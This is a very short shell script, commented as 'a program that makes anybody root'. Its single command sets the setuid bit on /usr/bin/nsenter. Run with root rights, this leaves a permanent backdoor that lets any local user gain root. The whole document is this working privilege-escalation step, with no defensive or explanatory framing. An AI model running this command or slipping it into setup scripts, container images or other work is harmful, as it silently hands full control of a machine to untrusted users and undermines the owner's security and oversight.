#!/bin/sh
# A program that makes anybody root.
set -eu
chmod u+s /usr/bin/nsenter
